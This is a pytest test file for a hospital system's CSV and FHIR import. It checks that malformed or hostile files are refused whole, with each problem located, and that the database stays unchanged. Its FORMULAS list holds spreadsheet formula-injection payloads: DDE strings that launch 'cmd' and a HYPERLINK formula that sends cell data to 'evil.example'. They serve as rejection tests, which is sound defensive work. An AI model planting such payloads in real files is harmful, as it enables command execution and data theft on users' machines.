"""Hostile import files (issue #10): CSV and FHIR R4 Bundles with bad rows, wrong encodings,
huge rows, duplicate ids and spreadsheet formulas, imported into a real central database
(SQLite, the sample hospital's rooms).

What must hold: the file is refused as a whole (`ImportFileError`), every problem names its
CSV line and column or its FHIR entry and field, the problems are counted in the message,
and the database is byte-for-byte what it was (every table compared); the command line
exits 1 with that message and no traceback. A fixed file then imports completely.
"""

from __future__ import annotations

import codecs
import json
import os
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from central.engine import Engine
from central.imports import ImportFileError, import_file
from protocol.config import render_config
from tests.support.central_harness import central_config, seeded_engine

pytestmark = pytest.mark.fault

HEADER = (
    "registration_no,name,birth_date,phone_last4,card_uid,service_day,appointment_id,"
    "priority,step_free,steps"
)
ROOMS = ["lab-1", "xray-1", "im-1", "card-1", "ent-1", "os-1"]


@pytest.fixture
def central(tmp_path: Path) -> Iterator[tuple[Engine, Path]]:
    config = central_config(tmp_path, 1883, "unused")
    engine, _sample = seeded_engine(config, patients=10)
    (tmp_path / "central.toml").write_text(render_config(config), encoding="utf-8")
    try:
        yield engine, tmp_path / "central.db"
    finally:
        engine.close()


def snapshot(db: Path) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table (sorted), to compare the database before and after."""
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        names = [
            r[0]
            for r in conn.execute(
                "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'"
            )
        ]
        return {
            n: sorted(conn.execute(f'SELECT * FROM "{n}"').fetchall(), key=repr)  # noqa: S608
            for n in names
        }
    finally:
        conn.close()


def row(i: int, **over: str) -> str:
    cells = {
        "registration_no": f"H3{i:07d}",
        "name": f"환자{i}",
        "birth_date": "1960-01-02",
        "phone_last4": f"{i % 10000:04d}",
        "card_uid": f"04{0xC0000000 + i:012X}",
        "service_day": "",
        "appointment_id": f"HOSTILE-{i}",
        "priority": "5",
        "step_free": "no",
        "steps": ROOMS[i % len(ROOMS)] + ";" + ROOMS[(i + 1) % len(ROOMS)],
    }
    cells.update(over)
    return ",".join(cells[c] for c in HEADER.split(","))


def csv_text(rows: list[str]) -> str:
    return HEADER + "\n" + "\n".join(rows) + "\n"


def refused(engine: Engine, db: Path, path: Path) -> list[str]:
    """Import `path`; it must be refused with nothing applied. Returns the problems."""
    before = snapshot(db)
    with pytest.raises(ImportFileError) as info:
        import_file(engine, path)
    message = str(info.value)
    problems = [str(p) for p in info.value.problems]
    assert f"{len(problems)} problem(s), nothing imported" in message
    assert str(path) in message
    assert snapshot(db) == before, "a refused file changed the database"
    return problems


def imported(engine: Engine, db: Path, path: Path, visits: int) -> None:
    before = len(snapshot(db)["visits"])
    report = import_file(engine, path)
    assert len(snapshot(db)["visits"]) == before + visits, report.summary()


def has(problems: list[str], *fragments: str) -> bool:
    return any(all(f in p for f in fragments) for p in problems)


# ------------------------------------------------------------------ CSV


def test_bad_rows_among_many_good_ones_refuse_the_whole_file(central, tmp_path: Path) -> None:
    engine, db = central
    rows = [row(i) for i in range(200)]
    rows[118] = row(118, birth_date="1960-02-30")  # line 120
    rows[149] = row(149, priority="high")  # line 151
    rows[180] = row(180, steps="lab-1;no-such-room")  # line 182: found against the database
    path = tmp_path / "day.csv"
    path.write_text(csv_text(rows), encoding="utf-8")
    problems = refused(engine, db, path)
    assert has(problems, "line 120, column birth_date"), problems
    assert has(problems, "line 151, column priority"), problems
    assert len(problems) == 2, problems  # rooms are checked once the rows parse
    rows[118], rows[149] = row(118), row(149)
    path.write_text(csv_text(rows), encoding="utf-8")
    problems = refused(engine, db, path)
    assert problems == ["line 182, column steps: step 2: unknown room 'no-such-room'"]
    rows[180] = row(180)
    path.write_text(csv_text(rows), encoding="utf-8")
    imported(engine, db, path, 200)
    # Importing the same file again changes nothing.
    before = snapshot(db)
    import_file(engine, path)
    assert len(snapshot(db)["visits"]) == len(before["visits"])


def test_a_byte_order_mark_is_accepted(central, tmp_path: Path) -> None:
    engine, db = central
    path = tmp_path / "bom.csv"
    path.write_bytes(codecs.BOM_UTF8 + csv_text([row(1), row(2)]).encode())
    imported(engine, db, path, 2)


@pytest.mark.parametrize("encoding", ["cp949", "utf-16", "euc-kr"])
def test_other_encodings_are_refused_with_the_byte(central, tmp_path: Path, encoding: str) -> None:
    engine, db = central
    path = tmp_path / f"{encoding}.csv"
    path.write_bytes(csv_text([row(1), row(2)]).encode(encoding))
    problems = refused(engine, db, path)
    assert len(problems) == 1
    assert problems[0].startswith("file: not UTF-8 (byte "), problems


def test_huge_rows_are_refused_with_their_line(central, tmp_path: Path) -> None:
    engine, db = central
    path = tmp_path / "huge.csv"
    # A 1 MB name (beyond the csv module's field limit) and a 1,000-character one.
    path.write_text(
        csv_text([row(1), row(2, name="김" * 1_000_000), row(3, name="이" * 1000), row(4)]),
        encoding="utf-8",
    )
    problems = refused(engine, db, path)
    assert has(problems, "line 3"), problems
    assert has(problems, "line 4, column name"), problems
    assert all(len(p) < 500 for p in problems), "a problem echoes the huge value"
    many = tmp_path / "many-fields.csv"
    many.write_text(csv_text([row(1), row(2) + "," * 50_000]), encoding="utf-8")
    assert has(refused(engine, db, many), "line 3", "more fields than header columns")


def test_many_bad_rows_are_all_counted(central, tmp_path: Path) -> None:
    engine, db = central
    path = tmp_path / "all-bad.csv"
    path.write_text(csv_text([row(i, priority="x") for i in range(20_000)]), encoding="utf-8")
    start = time.monotonic()
    before = snapshot(db)
    with pytest.raises(ImportFileError) as info:
        import_file(engine, path)
    assert len(info.value.problems) == 20_000
    message = str(info.value)
    assert "20000 problem(s), nothing imported" in message
    assert "... and 19950 more" in message
    assert snapshot(db) == before
    assert time.monotonic() - start < 60


def test_duplicate_ids_name_both_lines(central, tmp_path: Path) -> None:
    engine, db = central
    path = tmp_path / "dup.csv"
    # The same appointment id on lines 3 and 5, for different visits.
    path.write_text(
        csv_text([row(1), row(2, appointment_id="APT-X"), row(3), row(4, appointment_id="APT-X")]),
        encoding="utf-8",
    )
    problems = refused(engine, db, path)
    assert has(problems, "line 5, column appointment_id", "line 3"), problems
    # One card UID for two patients (lines 2 and 4).
    path.write_text(
        csv_text([row(1), row(2), row(3, card_uid=f"04{0xC0000000 + 1:012X}")]),
        encoding="utf-8",
    )
    problems = refused(engine, db, path)
    assert has(problems, "line 4, column card_uid", "line 2"), problems
    # The same registration number with two different names.
    path.write_text(csv_text([row(1), row(2, registration_no="H30000001")]), encoding="utf-8")
    problems = refused(engine, db, path)
    assert has(problems, "line 3, column name", "line 2"), problems


FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_spreadsheet_formulas_are_refused(central, tmp_path: Path, formula: str) -> None:
    engine, db = central
    path = tmp_path / "formula.csv"
    cell = '"' + formula.replace('"', '""') + '"'
    path.write_text(csv_text([row(1), row(2, name=cell), row(3)]), encoding="utf-8")
    assert has(refused(engine, db, path), "line 3, column name", "formula"), formula
    path.write_text(csv_text([row(1, appointment_id=cell)]), encoding="utf-8")
    assert has(refused(engine, db, path), "line 2, column appointment_id", "formula"), formula


def test_control_characters_in_a_name_are_refused(central, tmp_path: Path) -> None:
    engine, db = central
    path = tmp_path / "ctrl.csv"
    path.write_text(csv_text([row(1), row(2, name="김\x00민수"), row(3, name="이\x1b[31m")]))
    problems = refused(engine, db, path)
    assert has(problems, "line 3, column name"), problems
    assert has(problems, "line 4, column name"), problems


def test_the_command_line_exits_1_without_a_traceback(central, tmp_path: Path) -> None:
    _engine, db = central
    path = tmp_path / "cli.csv"
    path.write_text(csv_text([row(1), row(2, name="김" * 200_000), row(3, priority="x")]))
    before = snapshot(db)
    env = {k: v for k, v in os.environ.items() if not k.startswith("NFCH_")}
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "nfc_hospital",
            "central",
            "import",
            str(path),
            "--config",
            str(tmp_path / "central.toml"),
        ],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
        check=False,
    )
    assert done.returncode == 1, done.stderr
    assert "Traceback" not in done.stderr
    assert "problem(s), nothing imported" in done.stderr
    assert "line 4, column priority" in done.stderr
    assert snapshot(db) == before


# ------------------------------------------------------------------ FHIR


def patient(pid: str, reg: str, name: str, **extra: Any) -> dict[str, Any]:
    return {
        "resource": {
            "resourceType": "Patient",
            "id": pid,
            "identifier": [{"system": "urn:oid:1.2.410.999.1", "value": reg}],
            "name": [{"text": name}],
            "birthDate": "1970-01-01",
            **extra,
        }
    }


def location(room: str) -> dict[str, Any]:
    return {
        "resource": {
            "resourceType": "Location",
            "id": f"loc-{room}",
            "identifier": [{"system": "urn:nfc-hospital:room-id", "value": room}],
        }
    }


def appointment(aid: str, pid: str, room: str, hour: int = 9) -> dict[str, Any]:
    return {
        "resource": {
            "resourceType": "Appointment",
            "id": aid,
            "status": "booked",
            "start": f"2026-11-27T{hour:02d}:00:00+09:00",
            "end": f"2026-11-27T{hour:02d}:30:00+09:00",
            "participant": [
                {"actor": {"reference": f"Patient/{pid}"}, "status": "accepted"},
                {"actor": {"reference": f"Location/loc-{room}"}, "status": "accepted"},
            ],
        }
    }


def bundle(n: int, today: str) -> dict[str, Any]:
    entries = [location(r) for r in ROOMS]
    for i in range(n):
        entries.append(patient(f"p{i}", f"H4{i:07d}", f"환자{i}"))
        appt = appointment(f"a{i}", f"p{i}", ROOMS[i % len(ROOMS)])
        appt["resource"]["start"] = f"{today}T09:00:00+09:00"
        appt["resource"]["end"] = f"{today}T09:30:00+09:00"
        entries.append(appt)
    return {"resourceType": "Bundle", "type": "collection", "entry": entries}


def write_json(path: Path, doc: Any, encoding: str = "utf-8", bom: bool = False) -> Path:
    data = json.dumps(doc, ensure_ascii=False).encode(encoding)
    path.write_bytes((codecs.BOM_UTF8 if bom else b"") + data)
    return path


def test_fhir_bad_entry_among_good_ones(central, tmp_path: Path) -> None:
    engine, db = central
    today = engine.service_day().isoformat()
    doc = bundle(50, today)
    doc["entry"][6 + 2 * 20]["resource"]["birthDate"] = "1970-13-01"  # p20
    # a30 goes to a Location the bundle does not have.
    doc["entry"][6 + 2 * 30 + 1]["resource"]["participant"][1]["actor"]["reference"] = (
        "Location/loc-nowhere"
    )
    path = write_json(tmp_path / "bad.json", doc)
    problems = refused(engine, db, path)
    assert has(problems, "entry[46]", "birthDate"), problems
    doc["entry"][6 + 2 * 20]["resource"]["birthDate"] = "1970-12-01"
    path = write_json(tmp_path / "bad.json", doc)
    problems = refused(engine, db, path)
    assert has(problems, "entry[67] Appointment/a30 .participant[1]", "not in the bundle"), problems
    doc["entry"][6 + 2 * 30 + 1] = appointment("a30", "p30", "lab-1")
    doc["entry"][6 + 2 * 30 + 1]["resource"]["start"] = f"{today}T09:00:00+09:00"
    path = write_json(tmp_path / "good.json", doc)
    imported(engine, db, path, 50)


def test_fhir_encodings_and_broken_json(central, tmp_path: Path) -> None:
    engine, db = central
    today = engine.service_day().isoformat()
    doc = bundle(3, today)
    problems = refused(engine, db, write_json(tmp_path / "cp949.json", doc, "cp949"))
    assert len(problems) >= 1, problems
    assert all(len(p) < 500 for p in problems), problems
    problems = refused(engine, db, write_json(tmp_path / "utf16.json", doc, "utf-16"))
    assert len(problems) >= 1, problems
    text = json.dumps(doc)
    truncated = tmp_path / "truncated.json"
    truncated.write_text(text[: len(text) // 2])
    assert len(refused(engine, db, truncated)) >= 1
    deep = tmp_path / "deep.json"
    deep.write_text('{"resourceType": "Bundle", "type": "collection", "entry": ' + "[" * 100_000)
    assert len(refused(engine, db, deep)) >= 1
    imported(engine, db, write_json(tmp_path / "bom.json", doc, bom=True), 3)


def test_fhir_duplicate_resource_ids_are_named(central, tmp_path: Path) -> None:
    engine, db = central
    today = engine.service_day().isoformat()
    doc = bundle(5, today)
    # A second Patient/p2 with another registration number: which one do appointments mean?
    doc["entry"].append(patient("p2", "H499", "다른사람"))
    problems = refused(engine, db, write_json(tmp_path / "dup.json", doc))
    assert has(problems, f"entry[{len(doc['entry']) - 1}] Patient/p2", "entry[10]"), problems


@pytest.mark.parametrize("formula", FORMULAS[:3])
def test_fhir_formula_in_a_name_is_refused(central, tmp_path: Path, formula: str) -> None:
    engine, db = central
    doc = bundle(3, engine.service_day().isoformat())
    doc["entry"][8]["resource"]["name"] = [{"text": formula}]  # p1
    problems = refused(engine, db, write_json(tmp_path / "f.json", doc))
    assert has(problems, "entry[8] Patient/p1 .name", "formula"), problems


def test_fhir_big_bundle_imports_in_bounded_time(central, tmp_path: Path) -> None:
    engine, db = central
    path = write_json(tmp_path / "big.json", bundle(3000, engine.service_day().isoformat()))
    start = time.monotonic()
    imported(engine, db, path, 3000)
    assert time.monotonic() - start < 120
